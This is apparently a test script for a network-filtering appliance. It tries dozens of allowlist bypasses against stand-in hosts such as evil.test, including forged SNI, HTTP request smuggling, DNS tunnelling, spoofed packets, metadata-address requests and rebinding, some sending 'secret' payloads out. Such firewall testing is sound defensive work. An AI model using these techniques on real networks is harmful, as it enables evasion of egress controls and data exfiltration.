#!/usr/bin/env python3
"""Ways around a list of allowed names, each tried by a real tool, as root. Runs in a guest, where none may get anywhere,
and on the open side of the test internet, where each does.

usage: attempts.py DEVICE ADDRESS GATEWAY [NAME]...     prints "name TAB reached|refused TAB detail" for each
                                                        STEP=1: reads a line after each
       attempts.py --list                               prints "name TAB way TAB what the internet counts of it" for each
"""
import os
import re
import socket
import subprocess
import sys

sys.dont_write_bytecode = True
from packets import Link, client_hello, icmp, ipv4, ipv6, sctp_init, tcp, udp

SHOP, BANK, CDN, EVIL, RAW, LATE = "203.0.113.10", "203.0.113.20", "198.51.100.10", "198.51.100.66", "198.51.100.30", "198.51.100.77"
HOST = "203.0.113.2"  # of the appliance, where a listener of the test's waits at 80 and 9099
EVIL6 = "2001:db8::66"
ATTEMPTS = []  # (name, way, what is counted, function)
link = me = gateway = None


def attempt(name, way, counted):
    def add(f):
        ATTEMPTS.append((name, way, counted, f))
        return f
    return add


def add(name, way, counted, f, *args, **kw):
    ATTEMPTS.append((name, way, counted, lambda: f(*args, **kw)))


# --- tools: each gives what came back where something did, else nothing ---

def run(*args, stdin=None, seconds=10):
    try:
        r = subprocess.run(args, input=stdin, stdin=subprocess.DEVNULL if stdin is None else None, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                           timeout=seconds)
        return r.stdout.decode("latin1")
    except subprocess.TimeoutExpired:
        return ""


def curl(*args):
    """The title of the page, which says who answered."""
    out = run("curl", "-sSk", "-m", "6", *args)
    return "".join(re.findall("<title>([^<]*)", out)[:1])


def dig(*args):
    """The records of the answer."""
    out = run("dig", "+tries=1", "+time=2", "+noidnin", *args)
    return " ".join(re.findall(r"(?m)^(?!;)\S+\s.*\sIN\s", out))


def openssl(address, *args):
    out = run("openssl", "s_client", "-connect", address, *args)
    return "a certificate" if "BEGIN CERTIFICATE" in out else ""


def talk(address, port, *parts, seconds=2, want=b"Welcome to", family=socket.AF_INET):
    """Sends each part when the one before was answered; all that came back, if what is wanted is in it."""
    got = b""
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(seconds)
        s.connect((address, port))
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for part in parts:
            s.sendall(part)
            d = s.recv(65536)
            got += d
            if not d:
                break
    return got if want in got else b""


def slowly(address, port, data):
    """One byte to a segment."""
    with socket.create_connection((address, port), 2) as s:
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for byte in data:
            s.send(bytes([byte]))
        return s.recv(100)


def ask_udp(address, port, payload=b"hello", family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.sendto(payload, (address, port))
        return s.recv(2000)


def raw_ip(address, proto, payload):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, proto) as s:
        s.sendto(payload, (address, 0))


def with_header(packet, to=EVIL):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        s.sendto(packet, (to, 0))


def ip_command(*args):
    return run("ip", *args)


def get(host, path="/"):
    return ("GET %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (path, host)).encode()


# --- addresses instead of names ---

add("curl https:// an address", "no pin", "tcp %s:443" % EVIL, curl, "https://%s/" % EVIL)
add("curl http:// an address", "no pin", "tcp %s:80" % EVIL, curl, "http://%s/" % EVIL)
add("curl an address in hexadecimal", "no pin", "tcp %s:80" % EVIL, curl, "http://0xC6336442/")
add("curl an allowed site by its address", "no pin", "host %s" % SHOP, curl, "http://%s/" % SHOP)
add("curl an allowed name's address before it was resolved", "no pin", "tcp %s:443" % LATE, curl, "--resolve", "late.test:443:" + LATE, "https://late.test/")
add("connect and hope for the pin", "no pin", "tcp %s:80" % LATE, talk, LATE, 80, get("late.test"))
add("another port of an allowed name", "no pin", "tcp %s:8080" % SHOP, curl, "http://shop.test:8080/")
add("a socket to SSH's port", "no pin", "tcp %s:22" % EVIL, talk, EVIL, 22, b"SSH-2.0-x\r\n", want=b"SSH")
add("TURN over TCP", "no pin", "tcp %s:3478" % EVIL, talk, EVIL, 3478, b"\0\3\0\0\x21\x12\xa4\x42" + b"x" * 12, want=b"x")
add("mail", "no pin", "tcp %s:25" % EVIL, talk, EVIL, 25, b"EHLO x\r\n", want=b"EHLO")
add("IPv6 literal", "IPv6", "ipv6 " + EVIL6, curl, "http://[%s]/" % EVIL6)
add("a mapped address", "IPv6", "tcp %s:80" % EVIL, talk, "::ffff:" + EVIL, 80, get("evil.test"), family=socket.AF_INET6)
for what, where in (("NAT64", "64:ff9b::c633:6442"), ("6to4", "2002:c633:6442::1"), ("Teredo", "2001:0:c633:6442::1")):
    add(what + " address", "IPv6", "ipv6 " + where, curl, "http://[%s]/" % where)


@attempt("an IPv6 frame past the routes", "IPv6", "ipv6 " + EVIL6)
def _():
    link.send(ipv6("2001:db8::15", EVIL6, 17, b"\x10\x00\x10\x00\x00\x0a\x00\x00hi"), kind=0x86dd)


@attempt("an IPv6 address and route of one's own", "IPv6", "ipv6 " + EVIL6)
def _():
    ip_command("-6", "addr", "add", "2001:db8:1::15/64", "dev", link.device, "nodad")
    ip_command("-6", "route", "add", EVIL6, "dev", link.device)
    ip_command("-6", "neigh", "replace", EVIL6, "lladdr", link.gateway_mac(), "dev", link.device)
    try:
        return ask_udp(EVIL6, 9999, family=socket.AF_INET6)
    finally:
        ip_command("-6", "route", "del", EVIL6, "dev", link.device)
        ip_command("-6", "addr", "del", "2001:db8:1::15/64", "dev", link.device)


# --- names that are not there ---

add("another name on an allowed address, TLS", "other name", "tls neighbour.test", curl, "--resolve", "neighbour.test:443:" + CDN, "https://neighbour.test/")
add("another name on an allowed address, HTTP", "other name", "host neighbour.test", curl, "--resolve", "neighbour.test:80:" + CDN, "http://neighbour.test/")
add("a name of one's own at an allowed address", "other name", "tls evil.test", curl, "--resolve", "evil.test:443:" + SHOP, "https://evil.test/")
add("an allowed name at an address that never was its own", "forged SNI", "tcp %s:443" % EVIL, curl, "--resolve", "shop.test:443:" + EVIL, "https://shop.test/")
add("an allowed name at a forbidden site", "forged SNI", "tcp %s:443" % BANK, openssl, BANK + ":443", "-servername", "shop.test")
add("no SNI", "forged SNI", "tcp %s:443" % RAW, openssl, RAW + ":443", "-noservername")
add("SNI of a forbidden name", "forged SNI", "tls evil.test", openssl, SHOP + ":443", "-servername", "evil.test")
add("SNI with an address in it", "forged SNI", "tls " + SHOP, openssl, SHOP + ":443", "-servername", SHOP)
add("SNI in capitals", "forged SNI", "tls evil.test", openssl, SHOP + ":443", "-servername", "EVIL.test")
add("SNI of one byte a segment", "forged SNI", "tls evil.test", slowly, SHOP, 443, client_hello(b"evil.test"))
add("a record for every byte of SNI", "forged SNI", "tls evil.test", talk, SHOP, 443,
    b"".join(b"\x16\3\1\0\1" + bytes([b]) for b in client_hello(b"evil.test")[5:]), want=b"\x16\3")
add("a hello of 40 KiB with the name at its end", "forged SNI", "tcp %s:443" % RAW, talk, RAW, 443, client_hello(b"evil.test", extra=b"\0\x15\xa0\0" + b"\0" * 0xa000)[:0x3000],
    want=b"\x15")
add("two names in one hello", "forged SNI", "tcp %s:443" % RAW, talk, RAW, 443, client_hello(b"raw.test", b"evil.test"), want=b"\x16\3")
add("a name with NUL in it", "forged SNI", "tcp %s:443" % RAW, talk, RAW, 443, client_hello(b"raw.test\0.evil.test"), want=b"\x16\3")
add("a hello of SSL 2", "forged SNI", "tcp %s:443" % RAW, talk, RAW, 443, b"\x80\x2e\1\3\1" + b"\0" * 50, want=b"\x15")
add("SSH to an allowed site's 443", "forged SNI", "tcp %s:443" % RAW, talk, RAW, 443, b"SSH-2.0-x\r\n", want=b"\x15")
add("an outer name for Encrypted ClientHello", "ECH", "tls outer.evil.test", talk, SHOP, 443,
    client_hello(b"outer.evil.test", extra=b"\xfe\x0d\0\x12\0\0\1\0\1\7\0\0\0\x08" + b"\7" * 8), want=b"\x16\3")
add("dig HTTPS records", "ECH", "dns-type HTTPS", dig, "svc.test", "TYPE65")
add("dig SVCB records", "ECH", "dns-type SVCB", dig, "svc.test", "TYPE64")

# --- HTTP ---

add("Host of another name", "HTTP Host", "host evil.test", curl, "-H", "Host: evil.test", "http://shop.test/")
add("Host in capitals and with a dot", "HTTP Host", "host evil.test.", curl, "-H", "Host: EVIL.test.", "http://shop.test/")
add("a second request with another Host", "HTTP Host", "host evil.test", talk, "shop.test", 80, get("shop.test", "/echo"), get("evil.test"), want=b"Welcome to evil")
add("two requests in one segment", "HTTP Host", "host evil.test", talk, "shop.test", 80, get("shop.test", "/echo") + get("evil.test"), b"", want=b"Welcome to evil")
add("a request behind a body", "HTTP Host", "host evil.test", talk, "shop.test", 80,
    b"POST /echo HTTP/1.1\r\nHost: shop.test\r\nContent-Length: 2\r\n\r\nhi" + get("evil.test"), b"", want=b"Welcome to evil")
add("a request in what one side takes for a chunk", "HTTP Host", "host evil.test", talk, "shop.test", 80,
    b"POST /echo HTTP/1.1\r\nHost: shop.test\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nhi\r\n0\r\n\r\n" + get("evil.test"), b"", want=b"Welcome to evil")
add("CONNECT through an allowed site", "HTTP Host", "host evil.test", curl, "-x", "http://shop.test:80", "https://evil.test/")
add("an allowed site as a proxy", "HTTP Host", "host evil.test", curl, "-x", "http://shop.test:80", "http://evil.test/")
add("a whole URL behind an allowed Host", "HTTP Host", "host evil.test", talk, "shop.test", 80, b"GET http://evil.test/ HTTP/1.1\r\nHost: shop.test\r\n\r\n", want=b"200 OK")
add("an upgrade that is none, then another Host", "HTTP Host", "host evil.test", talk, "shop.test", 80,
    b"GET /echo HTTP/1.1\r\nHost: shop.test\r\nConnection: Upgrade\r\nUpgrade: x\r\n\r\n", get("evil.test"), want=b"Welcome to evil")
add("HTTP/1.0 without Host", "HTTP Host", "tcp %s:80" % RAW, talk, RAW, 80, b"GET / HTTP/1.0\r\n\r\n")
add("HTTP/2 in the clear", "HTTP Host", "tcp %s:80" % RAW, curl, "--http2-prior-knowledge", "http://raw.test/")

# --- names that look like allowed ones ---

for name in ("evilshop.test", "shop.test.evil.test", "www.shop.test", "xn--hop-ehd.test", "evil.test."):
    add("curl https://%s/" % name, "suffix", "dns " + name.rstrip("."), curl, "https://%s/" % name)

# --- DNS elsewhere and DNS as a tunnel ---

add("dig", "DNS", "dns evil.test", dig, "evil.test")
add("dig @8.8.8.8", "DNS", "udp 8.8.8.8:53", dig, "@8.8.8.8", "bank.test")
add("dig +tcp @8.8.8.8", "DNS", "tcp 8.8.8.8:53", dig, "+tcp", "@8.8.8.8", "bank.test")
add("dig @ the appliance's own server", "DNS", "dns bank.test", dig, "@203.0.113.53", "bank.test")
add("DNS over TLS", "DNS", "tcp 8.8.8.8:853", openssl, "8.8.8.8:853", "-servername", "dns.google")
add("DNS over QUIC's port", "DNS", "udp 8.8.8.8:853", ask_udp, "8.8.8.8", 853, b"\xc0\0\0\0\1" + b"q" * 1195)
add("DNS over HTTPS", "DNS", "tcp 8.8.8.8:443", curl, "--doh-insecure", "--doh-url", "https://8.8.8.8/dns-query", "https://bank.test/")
add("DNS over HTTPS by an allowed name's address", "DNS", "tcp 1.1.1.1:443", curl, "--connect-to", "shop.test:443:1.1.1.1:443", "https://shop.test/dns-query")
add("mDNS", "DNS", "udp 224.0.0.251:5353", ask_udp, "224.0.0.251", 5353)
add("LLMNR", "DNS", "udp 224.0.0.252:5355", ask_udp, "224.0.0.252", 5355)
add("no DNS at port 53, UDP", "DNS", "udp %s:53" % EVIL, lambda: raw_ip(EVIL, 17, udp(me, EVIL, 4000, 53, b"secret" * 20)))
add("no DNS at port 53, TCP", "DNS", "tcp %s:53" % EVIL, talk, EVIL, 53, b"\0\x20" + b"secret" * 6, want=b"secret")
add("a name made of data", "DNS tunnel", "dns c2vjcmv0.evil.test", dig, "c2vjcmv0.evil.test")
add("a name made of data, below an allowed one", "DNS tunnel", "dns c2vjcmv0.shop.test", dig, "c2vjcmv0.shop.test")
for kind in ("TXT", "NULL", "ANY", "MX", "SRV", "NS"):
    add("dig %s below an allowed wildcard" % kind, "DNS tunnel", "dns-type " + kind, dig, "c2vjcmv0.wild.test", kind)
add("an address backwards", "DNS tunnel", "dns 66.100.51.198.in-addr.arpa", dig, "-x", EVIL)
add("two questions in one packet", "DNS tunnel", "udp 8.8.8.8:53",  # answers are counted in bytes 6 and 7
    lambda: ask_udp("8.8.8.8", 53, b"\0\7\1\0\0\2\0\0\0\0\0\0\4evil\4test\0\0\1\0\1\xc0\x0c\0\x10\0\1")[6:8].strip(b"\0"))

# --- answers that point inside ---

for name, where in (("ten.test", "10.9.9.9"), ("twelve.test", "172.16.9.9"), ("lan.test", "192.168.9.9"), ("carrier.test", "100.64.9.9"),
                    ("metadata.test", "169.254.169.254"), ("chain.test", "169.254.169.254"), ("inside.test", "10.0.2.2"),
                    ("sixtofour.test", "192.88.99.9"), ("benchmark.test", "198.18.9.9")):
    add("allowed, and its address is %s: %s" % (where, name), "inner answers", "tcp %s:80" % where, curl, "http://%s/" % name)
add("an inner one of two answers", "inner answers", "tcp 10.9.9.9:443", curl, "--resolve", "mixed.test:443:10.9.9.9", "https://mixed.test/")


@attempt("an answer that is another one the next time", "inner answers", "tcp 10.9.9.9:80")
def _():
    peers = [run("curl", "-sS", "-m", "6", "-o", "/dev/null", "-w", "%{remote_ip}", "http://rebind.test/") for _ in range(3)]
    return [p for p in peers if p.endswith("10.9.9.9")]


add("allowed, and its address is the host's loopback", "inner answers", "listener loopback", curl, "http://loop.test/")
add("allowed, and its address is the host's", "inner answers", "listener host", curl, "http://self.test/")
for where in ("169.254.169.254", "10.9.9.9", "172.16.9.9", "192.168.9.9", "100.64.9.9", "240.9.9.9"):
    add("curl " + where, "inner addresses", "tcp %s:80" % where, curl, "http://%s/" % where)
add("the host by its address", "inner addresses", "listener host", curl, "http://%s:9099/" % HOST)

# --- UDP ---

add("QUIC to a forbidden site", "UDP", "udp %s:443" % EVIL, ask_udp, EVIL, 443, b"\xc0\0\0\0\1\x08" + b"q" * 1194)
add("QUIC to an allowed site", "UDP", "udp %s:443" % SHOP, ask_udp, SHOP, 443, b"\xc0\0\0\0\1\x08" + b"q" * 1194)
add("STUN", "UDP", "udp %s:3478" % EVIL, ask_udp, EVIL, 3478, b"\0\1\0\0\x21\x12\xa4\x42" + b"x" * 12)
add("NTP", "UDP", "udp %s:123" % EVIL, ask_udp, EVIL, 123, b"\x23" + b"\0" * 47)
add("any UDP to an allowed site", "UDP", "udp %s:9999" % SHOP, ask_udp, SHOP, 9999)
add("UDP broadcast", "UDP", "udp 255.255.255.255:9999", ask_udp, "255.255.255.255", 9999)
add("SSDP", "UDP", "udp 239.255.255.250:1900", ask_udp, "239.255.255.250", 1900)
add("UDP in fragments", "UDP", "udp %s:9999" % EVIL, ask_udp, EVIL, 9999, b"f" * 4000)

# --- raw packets ---

add("ICMP echo", "raw", "icmp " + EVIL, raw_ip, EVIL, 1, icmp(8))
add("ICMP echo to an allowed site", "raw", "icmp " + SHOP, raw_ip, SHOP, 1, icmp(8))
add("ICMP echo reply with data", "raw", "icmp " + EVIL, raw_ip, EVIL, 1, icmp(0, b"\0\1\0\1" + b"secret" * 100))
add("ICMP time stamp", "raw", "icmp " + EVIL, raw_ip, EVIL, 1, icmp(13, b"\0" * 16))
add("ICMP about a connection that is none", "raw", "icmp " + EVIL, lambda: raw_ip(EVIL, 1, icmp(3, b"\0\0\0\0" + ipv4(EVIL, me, 6, b"\1\xbb\x10\0\0\0\0\1"))))
add("SCTP", "raw", "sctp %s:443" % EVIL, lambda: raw_ip(EVIL, 132, sctp_init(443)))
add("UDP-Lite", "raw", "udplite %s:443" % EVIL, raw_ip, EVIL, 136, b"\x10\0\1\xbb\0\0\0\0hi")
add("DCCP", "raw", "dccp %s:443" % EVIL, raw_ip, EVIL, 33, b"\x10\0\1\xbb\4\0\0\0\0\0\0\0\0\0\0\0")
for what, number in (("igmp", 2), ("ipip", 4), ("6in4", 41), ("gre", 47), ("esp", 50), ("l2tp", 115)):
    add("protocol " + what, "raw", "%s %s" % (what, EVIL), raw_ip, EVIL, number, b"x" * 32)
for what, source in (("the host's", HOST), ("loopback's", "127.0.0.1"), ("another site's", BANK), ("the gateway's", "10.0.2.2")):
    add("source address: " + what, "spoofed", "udp %s:9999" % EVIL, lambda source=source: link.send(ipv4(source, EVIL, 17, udp(source, EVIL, 4000, 9999, b"hi"))))
for what, option in (("loose source routing", 131), ("strict source routing", 137), ("record route", 7)):
    add(what, "source routing", "udp %s:9999" % EVIL,
        lambda option=option: link.send(ipv4(me, EVIL, 17, udp(me, EVIL, 4000, 9999, b"hi"), bytes([option, 7, 4]) + socket.inet_aton(SHOP) + b"\0")))
for what, flags in (("SYN+FIN", 3), ("SYN+RST", 6), ("no flags", 0), ("all flags", 63), ("ACK alone", 16), ("FIN alone", 1), ("SYN+ACK", 18)):
    add("TCP with %s" % what, "odd TCP", "tcp %s:443" % EVIL, lambda flags=flags: link.send(ipv4(me, EVIL, 6, tcp(me, EVIL, 4000 + flags, 443, flags))))
for port in (53, 700, 701):
    add("TCP from port %d" % port, "odd TCP", "tcp %s:443" % EVIL, lambda port=port: link.send(ipv4(me, EVIL, 6, tcp(me, EVIL, port, 443, 18, b"secret"))))
add("a SYN with data", "odd TCP", "tcp %s:80" % EVIL, lambda: link.send(ipv4(me, EVIL, 6, tcp(me, EVIL, 4100, 80, 2, get("evil.test")))))
add("data of no connection to an allowed site", "odd TCP", "tcp %s:9999" % SHOP, lambda: link.send(ipv4(me, SHOP, 6, tcp(me, SHOP, 4101, 9999, 24, b"secret"))))


@attempt("TCP Fast Open", "odd TCP", "tcp %s:80" % EVIL)
def _():
    with socket.socket() as s:
        s.settimeout(2)
        s.sendto(get("evil.test"), 0x20000000, (EVIL, 80))
        return s.recv(1000)


@attempt("a TCP head in two fragments", "odd TCP", "tcp %s:443" % EVIL)
def _():
    segment = tcp(me, EVIL, 4102, 443, 2)
    link.send(ipv4(me, EVIL, 6, segment[:8], fragment=0x2000))
    link.send(ipv4(me, EVIL, 6, segment[8:], fragment=1))


# --- the guest's own network turned around ---

@attempt("another address of one's own", "own network", "udp %s:9999" % EVIL)
def _():
    ip_command("addr", "add", "203.0.113.99/32", "dev", link.device)
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.bind(("203.0.113.99", 0))
            s.settimeout(1)
            s.sendto(b"hi", (EVIL, 9999))
            return s.recv(100)
    finally:
        ip_command("addr", "del", "203.0.113.99/32", "dev", link.device)


@attempt("a route past the gateway", "own network", "tcp %s:80" % EVIL)
def _():
    ip_command("route", "add", EVIL, "dev", link.device)
    ip_command("neigh", "replace", EVIL, "lladdr", link.gateway_mac(), "dev", link.device)
    try:
        return curl("http://%s/" % EVIL)
    finally:
        ip_command("route", "del", EVIL, "dev", link.device)
        ip_command("neigh", "del", EVIL, "dev", link.device)


add("another MAC address", "own network", "udp %s:9999" % EVIL,
    lambda: link.send(ipv4(me, EVIL, 17, udp(me, EVIL, 4001, 9999, b"hi")), source="02:00:00:00:00:99"))
add("to everybody on the link", "own network", "udp %s:9999" % EVIL,
    lambda: link.send(ipv4(me, EVIL, 17, udp(me, EVIL, 4002, 9999, b"hi")), to="ff:ff:ff:ff:ff:ff"))
add("ARP for the internet's router", "own network", "", lambda: link.who_has("203.0.113.1", me))
add("ARP for a site", "own network", "", lambda: link.who_has(SHOP, me))


def main(args):
    global link, me, gateway
    if args[0] == "--list":
        for name, way, counted, _ in ATTEMPTS:
            print(name, way, counted, sep="\t")
        return
    device, me, gateway, *only = args
    link = Link(device, gateway)
    for name in ("raw.test", "cdn.test"):  # whose addresses the attempts name: pinned, where there are pins
        socket.gethostbyname(name)
    for name, _, _, f in ATTEMPTS:
        if only and name not in only:
            continue
        try:
            got = f()
        except OSError as e:
            got, why = None, repr(e)
        else:
            why = repr(got)[:200]
        print(name, "reached" if got else "refused", why, sep="\t", flush=True)
        if os.environ.get("STEP"):
            sys.stdin.readline()


os.environ["LC_ALL"] = "C"
main(sys.argv[1:])
